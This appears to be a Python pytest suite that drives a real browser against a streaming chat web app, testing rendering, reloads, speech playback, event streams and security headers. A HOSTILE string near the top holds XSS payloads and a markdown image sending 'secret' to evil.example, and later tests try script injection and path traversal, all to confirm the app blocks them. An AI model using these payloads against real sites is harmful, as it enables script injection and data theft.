"""The page in a real browser, and the browser's own EventSource and WebSocket."""

import asyncio
import os
from itertools import pairwise

import pytest

from streamflow.audio import Wave
from streamflow.sinks.espeak import Espeak
from streamflow.testing import Answer, Stall, Text
from streamflow.testing.simulator import CANNED
from tests.server.browser import browsing, open_page
from tests.server.serving import serving, until

ANSWER = ".assistant .prose"
HOSTILE = (
    "<img src=x onerror=\"window.hurt = 1; alert(1)\"> <script>window.hurt = 2</script> [click](javascript:hurt=3) "
    "<svg onload=hurt=4> <iframe srcdoc='<script>parent.hurt=5</script>'></iframe> "
    "![exfiltrate](https://evil.example/?q=secret) <a href='javascript:hurt=6'>x</a> <style>body{display:none}</style> "
    "]]>--></textarea></script><base href='https://evil.example/'> &lt;b&gt; {{7*7}} ${7*7}"
)


class Beep:
    """A voice that takes a tenth of a second for each sentence."""

    def __init__(self):
        self.said = []

    async def synthesize(self, text):
        self.said.append(text)
        return Wave(8000, 1, 2, bytes(1600)).file()


async def say(page, text):
    await page.fill("#text", text)
    await page.press("#text", "Enter")


async def ended(page, word="ready"):
    await page.wait_for_function("word => document.getElementById('status').textContent === word", arg=word)


async def text(page):
    return await page.locator(ANSWER).last.text_content()


async def test_an_answer_appears_while_it_streams():
    async with serving() as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        await say(page, "sim:long 60 20")
        lengths = []
        for least in (1, 100, 200):
            await page.wait_for_function(
                "least => (document.querySelector('.assistant .prose')?.textContent ?? '').length > least", arg=least
            )
            lengths.append(len(await text(page)))
        assert lengths == sorted(lengths)
        assert lengths[0] < 300
        await ended(page)
        whole = await text(page)
        assert whole.startswith("one0 two1") and whole.endswith("ten59")  # noqa: PT018
        await say(page, "hello")
        await page.wait_for_function("() => document.querySelectorAll('.assistant').length === 2")
        await ended(page)
        assert await text(page) == CANNED
        sent = served.fake.requests[-1].body["messages"]
        assert [message["role"] for message in sent] == ["user", "assistant", "user"]
        assert sent[1]["content"] == whole
        assert page.complaints == []


async def test_panels():
    async with serving() as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        await say(page, "sim:think Let me see. | This is the first of two sentences. And here comes the second.")
        await ended(page)
        assert await page.text_content("#thinking") == "Let me see."
        await page.wait_for_selector("#sentences li")
        await say(page, 'sim:tool weather {"city": "Rome"}')
        await ended(page, "wants a tool")
        tools = await page.text_content("#tools")
        assert "weather" in tools
        assert '"city": "Rome"' in tools
        assert await page.text_content("#thinking") == ""


async def test_an_example_is_a_question():
    async with serving(examples=["sim:text Good day.", "<b>bold</b>"]) as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        await page.wait_for_selector("#examples button")
        assert await page.locator("#examples button").all_text_contents() == ["sim:text Good day.", "<b>bold</b>"]
        await page.click("#examples button")
        await ended(page)
        assert await text(page) == "Good day."
        assert await page.locator("#welcome").is_hidden()
        assert page.complaints == []


async def test_lines_look_like_what_they_are_and_keep_every_letter():
    code = "```py\n**not strong** `x`\n# no\n```\n"
    said = f"# Tea\n\nUse **hot** water, `boil()` it.\n\n1. One\n- two\n{code}> so **he** said"
    async with serving(Answer(*map(Text, said))) as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        await say(page, "go on")
        await ended(page)
        assert await text(page) == said
        find = "kind => [...document.querySelectorAll('.assistant ' + kind)].map(found => found.textContent)"
        assert await page.evaluate(find, ".line.heading") == ["# Tea\n"]
        assert await page.evaluate(find, "strong") == ["hot", "he"]
        assert await page.evaluate(find, "code") == ["boil()"]
        assert await page.evaluate(find, ".line.item") == ["1. One\n", "- two\n"]
        assert len(await page.evaluate(find, ".line.code")) == 4
        await page.reload()
        assert await text(page) == said


async def test_a_reload_in_mid_answer_loses_nothing():
    async with serving() as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        await say(page, "sim:long 120 10")
        for least in (50, 300, 500):
            await page.wait_for_function(
                "least => (document.querySelector('.assistant .prose')?.textContent ?? '').length > least", arg=least
            )
            await page.reload()
        await ended(page)
        whole = await text(page)
        assert whole.endswith("ten119")
        assert len(whole.split()) == 120
        assert len(served.fake.requests) == 1
        await page.reload()
        assert await text(page) == whole
        assert page.complaints == []


async def test_stop_stops():
    async with serving(Answer(Text("Hello "), Stall())) as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        assert await page.is_disabled("#stop")
        await say(page, "go on")
        await page.wait_for_function("() => document.querySelector('.assistant .prose')?.textContent === 'Hello '")
        await page.click("#stop")
        await ended(page, "stopped")
        await until(lambda: served.fake.open_connections == 0)
        assert await page.is_disabled("#stop")
        assert await text(page) == "Hello "


async def test_failures_are_shown():
    async with serving() as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        await say(page, "sim:error-event")
        await ended(page, "failed")
        assert "overloaded" in await page.text_content(".note")


async def test_words_of_a_model_stay_words():
    async with serving(Answer(Text(HOSTILE))) as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        asked = []
        page.on("request", lambda request: asked.append(request.url))
        await say(page, HOSTILE)
        await ended(page)
        assert await text(page) == HOSTILE
        assert await page.evaluate("window.hurt") is None
        for tag in ("main img", "main script", "svg", "iframe", "main a", "main style", "base"):
            assert await page.locator(tag).count() == 0
        assert all(url.startswith(served.root) for url in asked)
        await page.reload()
        assert await page.evaluate("window.hurt") is None
        assert page.complaints == []


async def test_the_policy_has_no_holes():
    async with serving() as served:
        for path in ("/", "/page/app.js", "/page/style.css", "/healthz"):
            async with served.session.get(served.root + path) as response:
                policy = response.headers["content-security-policy"]
                assert response.status == 200
                assert "unsafe" not in policy
                assert "*" not in policy
                assert policy.startswith("default-src 'none'; script-src 'self'; ")
                assert response.headers["x-content-type-options"] == "nosniff"
                body = await response.text()
                if path == "/":
                    assert "onclick" not in body
                    assert "style=" not in body
                    assert body.count("<script") == body.count('<script type="module" src="') == 1
        for path in ("/page/../app.py", "/page/..%2fapp.py", "/page/nothing.js", "/page/app.py", "/page/"):
            async with served.session.get(served.root + path) as response:
                assert response.status in (404, 403)


async def test_scripts_that_got_in_would_not_run():
    async with serving() as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        await page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hurt=1\">')")
        await page.evaluate(
            """() => {
                const script = document.createElement("script");
                script.textContent = "window.hurt = 2";
                document.body.append(script);
            }"""
        )
        await page.wait_for_timeout(50)
        assert await page.evaluate("window.hurt") is None
        assert any("Content Security Policy" in complaint for complaint in page.complaints)


async def test_the_voice_speaks_in_order_and_the_button_follows_it():
    beep = Beep()
    sentences = [f"This is sentence number {number} of all that will be said." for number in range(1, 9)]
    async with serving(Answer(Text(" ".join(sentences))), synthesizer=beep) as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        await page.evaluate(
            """() => {
                window.seen = [];
                const start = AudioBufferSourceNode.prototype.start;
                AudioBufferSourceNode.prototype.start = function (at) {
                    window.seen.push([at, at + this.buffer.duration]);
                    return start.call(this, at);
                };
                window.words = [];
                const set = CSS.highlights.set.bind(CSS.highlights);
                CSS.highlights.set = (name, highlight) => {
                    const word = String([...highlight][0]);
                    if (window.words.at(-1) !== word) window.words.push(word);
                    return set(name, highlight);
                };
                window.states = [];
                new MutationObserver(() => window.states.push(document.getElementById("stop").className))
                    .observe(document.getElementById("stop"), { attributeFilter: ["class"] });
            }"""
        )
        await say(page, "speak")
        await page.wait_for_selector("#stop.speaking")
        animation = "getComputedStyle(document.getElementById('stop')).animationName"
        assert await page.evaluate(animation) == "pulse"
        await page.wait_for_selector("#stop:not(.speaking)")
        played = await page.evaluate("window.seen")
        assert len(played) == len(beep.said) >= 3
        for (_, before), (after, _) in pairwise(played):
            assert after >= before - 1e-6
        assert " ".join(beep.said).split() == " ".join(sentences).split()
        assert await page.evaluate("window.states") == ["speaking", ""]
        words = await page.evaluate("window.words")
        spoken = [word.strip(".") for word in " ".join(sentences).split()]
        assert words
        place = 0
        for word in words:
            place = spoken.index(word, place)
        assert page.complaints == []


async def test_stop_silences_at_once():
    async with serving(synthesizer=Beep()) as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        await page.evaluate(
            """() => {
                window.started = 0; window.stopped = 0;
                const start = AudioBufferSourceNode.prototype.start, stop = AudioBufferSourceNode.prototype.stop;
                Object.assign(AudioBufferSourceNode.prototype, {
                    start(at) { window.started += 1; return start.call(this, at); },
                    stop() { window.stopped += 1; return stop.call(this); },
                });
            }"""
        )
        speech = " ".join(f"This is sentence number {number} of a very long speech." for number in range(40))
        await say(page, "sim:text " + speech)
        await page.wait_for_selector("#stop.speaking")
        silent_ms = await page.evaluate(
            """() => {
                const before = performance.now();
                document.getElementById("stop").click();
                const silent = !document.getElementById("stop").classList.contains("speaking") && window.stopped > 0;
                return silent ? performance.now() - before : -1;
            }"""
        )
        assert 0 <= silent_ms < 50
        started = await page.evaluate("window.started")
        await page.wait_for_timeout(400)
        assert await page.evaluate("window.started") == started
        assert await page.evaluate("CSS.highlights.has('spoken')") is False


async def test_a_reload_goes_on_with_the_speech():
    beep = Beep()
    sentences = [f"This is sentence number {number} of all that will be said." for number in range(1, 13)]
    async with serving(Answer(Text(" ".join(sentences))), synthesizer=beep) as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        await say(page, "speak")
        heard = "() => JSON.parse(sessionStorage.getItem('streamflow.chat')).heard.endsWith('-1')"
        await page.wait_for_function(heard)
        await page.reload()
        await page.wait_for_selector("#stop.speaking")
        await page.wait_for_selector("#stop:not(.speaking)")
        assert len(beep.said) == len(set(beep.said))  # nothing was synthesized twice


@pytest.mark.skipif(not Espeak.installed() and os.environ.get("STREAMFLOW_REQUIRE_ALL") != "1", reason="no espeak-ng")
async def test_the_voice_of_espeak_over_the_wire():
    async with serving(synthesizer=Espeak()) as served:
        flow_id = await served.begin("sim:text Hello there, dear friend. How are you today? I am quite well.")
        items = await served.events(flow_id, branch="tts")
        segments = [item for _, item in items if item["type"] == "AudioSegment"]
        assert [segment["index"] for segment in segments] == list(range(len(segments)))
        assert all(segment["duration_s"] > 0.2 for segment in segments)
        for place, (id, _) in enumerate(items):
            assert await served.events(flow_id, branch="tts", after=id) == items[place + 1 :]
        main = (await served.events(flow_id))[0][0]
        url = f"{served.root}/flows/{flow_id}/events?branch=tts"
        async with served.session.get(url, headers={"last-event-id": main}) as response:
            assert response.status == 409


async def test_an_interruption_says_what_was_heard():
    async with serving(synthesizer=Beep()) as served:
        flow_id = await served.begin("sim:text This is the **first** of them all. Here comes the second one.")
        await served.events(flow_id, branch="tts")
        async with served.session.ws_connect(f"{served.root}/flows/{flow_id}/ws?branch=ui") as socket:
            await socket.send_json({"type": "interrupt", "played_s": 0.1})
            heard = [message.json() async for message in socket if message.json()["type"] == "Heard"]
        assert heard in ([], [{"type": "Heard", "played_s": 0.1, "text": "This is the **first** of them all."}])


async def test_a_second_enter_does_not_ask_twice():
    async with serving() as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        await page.fill("#text", "hello")
        await page.evaluate(
            """() => { const form = document.getElementById("composer");
                       form.requestSubmit(); document.getElementById("text").value = "hello"; form.requestSubmit(); }"""
        )
        await ended(page)
        assert await text(page) == CANNED
        assert await page.locator(".user").count() == 1


async def test_a_page_with_a_token():
    async with serving(tokens=["right-token-1"]) as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        await say(page, "hello")
        await page.wait_for_selector("#access:visible")
        await page.fill("#token", "right-token-1")
        async with page.expect_navigation():
            await page.click("#access button")
        assert await page.evaluate("() => sessionStorage.getItem('streamflow.token')") == "right-token-1"
        await page.wait_for_selector("#access", state="hidden")
        await say(page, "hello")
        await ended(page)
        assert await text(page) == CANNED


READ_EVENT_SOURCE = """
([flow, drops]) => new Promise((done) => {
    const items = [];
    const kinds = ["StreamStart", "BlockStart", "Chunk", "BlockComplete", "Usage", "ToolCallsReady", "StreamCompleted",
                   "StreamFailed", "Notice"];
    const source = new EventSource(`/flows/${flow}/events`);
    const take = (event) => {
        items.push([event.lastEventId, JSON.parse(event.data)]);
        if (event.type.startsWith("StreamC") || event.type.startsWith("StreamF")) { source.close(); done(items); }
    };
    for (const kind of kinds) source.addEventListener(kind, take);
})
"""
READ_WEB_SOCKET = """
([flow, stopAfter, after]) => new Promise((done) => {
    const items = [];
    const socket = new WebSocket(`ws://${location.host}/flows/${flow}/ws` + (after ? `?after=${after}` : ""));
    socket.onmessage = (event) => {
        items.push(JSON.parse(event.data));
        if (items.length === stopAfter) socket.send(JSON.stringify({ type: "stop" }));
    };
    socket.onclose = (event) => done([items, event.code]);
})
"""


@pytest.mark.parametrize(
    ("asked", "check"),
    [
        ("hello", lambda items: "".join(item.get("text", "") for item in items if item["type"] == "Chunk") == CANNED),
        ("sim:think A. | B.", lambda items: {"thinking", "text"} == {i["kind"] for i in items if i["type"] == "Chunk"}),
        ("sim:tool f {}", lambda items: any(item["type"] == "ToolCallsReady" for item in items)),
        ("sim:error-event", lambda items: items[-1]["type"] == "StreamFailed"),
    ],
)
async def test_event_source_and_web_socket_of_the_browser(asked, check):
    async with serving() as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        flow_id = await served.begin(asked)
        expected = await served.events(flow_id)
        assert await page.evaluate(READ_EVENT_SOURCE, [flow_id, 0]) == [[id, item] for id, item in expected]
        items, code = await page.evaluate(READ_WEB_SOCKET, [flow_id, 0, ""])
        assert code == 1000
        assert [item["id"] for item in items] == [id for id, _ in expected]
        assert check(items)
        rest, _ = await page.evaluate(READ_WEB_SOCKET, [flow_id, 0, items[1]["id"]])
        assert rest == items[2:]


async def test_the_browser_stops_a_flow_by_web_socket():
    async with serving(Answer(Text("Hello "), Stall())) as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        flow_id = await served.begin("go on")
        items, code = await page.evaluate(READ_WEB_SOCKET, [flow_id, 3, ""])
        assert (items[-1]["stop_reason"], code) == ("cancelled", 1000)


async def test_event_source_comes_back_by_itself():
    async with serving() as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        flow_id = await served.begin("sim:long 100 15")
        reading = asyncio.create_task(page.evaluate(READ_EVENT_SOURCE, [flow_id, 0]))
        await until(lambda: served.service.metrics.get("events_sent_total") > 10)
        served.drop_connections()
        items = await reading
        assert items == [[id, item] for id, item in await served.events(flow_id)]
        assert served.service.metrics.get("resumes_total") == 1


async def test_web_socket_goes_on_where_it_broke():
    async with serving() as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        flow_id = await served.begin("sim:long 100 15")
        reading = asyncio.create_task(page.evaluate(READ_WEB_SOCKET, [flow_id, 0, ""]))
        await until(lambda: served.service.metrics.get("events_sent_total") > 10)
        served.drop_connections()
        before, code = await reading
        assert code == 1006
        assert before[-1]["type"] != "StreamCompleted"
        after, code = await page.evaluate(READ_WEB_SOCKET, [flow_id, 0, before[-1]["id"]])
        assert code == 1000
        whole = await served.events(flow_id)
        assert [item["id"] for item in before + after] == [id for id, _ in whole]
        said = "".join(item["text"] for item in before + after if item["type"] == "Chunk")
        assert said == whole[-1][1]["response"]["text"]


async def test_event_source_is_told_of_a_stop():
    async with serving(Answer(Text("Hello "), Stall())) as served, browsing() as context:
        page = await open_page(context, served.root + "/")
        flow_id = await served.begin("go on")
        reading = asyncio.create_task(page.evaluate(READ_EVENT_SOURCE, [flow_id, 0]))
        await until(lambda: served.service.metrics.get("events_sent_total") > 2)
        stop = "flow => fetch(`/flows/${flow}`, { method: 'DELETE' }).then(response => response.status)"
        status = await page.evaluate(stop, flow_id)
        items = await reading
        assert (status, items[-1][1]["stop_reason"]) == (204, "cancelled")
        assert items == [[id, item] for id, item in await served.events(flow_id)]


@pytest.mark.parametrize("site", ["another", "null"])
async def test_a_page_of_another_origin_gets_nothing(site):
    async with serving() as served, browsing() as context:
        page = await open_page(context, served.fake.root + "/" if site == "another" else "about:blank")
        flow_id = await served.begin("hello")
        opened = await page.evaluate(
            """(url) => new Promise((done) => {
                const socket = new WebSocket(url);
                socket.onopen = () => done("open");
                socket.onclose = socket.onerror = () => done("refused");
            })""",
            f"{served.root.replace('http', 'ws')}/flows/{flow_id}/ws",
        )
        assert opened == "refused"
        post = """url => fetch(url, { method: "POST", mode: "no-cors", body: '{"messages": ["hi"]}' })
            .then(() => 0, () => 0)"""
        await page.evaluate(post, f"{served.root}/flows")
        read = "url => fetch(url).then(() => 'read', () => 'refused')"
        assert await page.evaluate(read, f"{served.root}/flows/{flow_id}") == "refused"
        assert served.service.metrics.get("flows_created_total") == 1
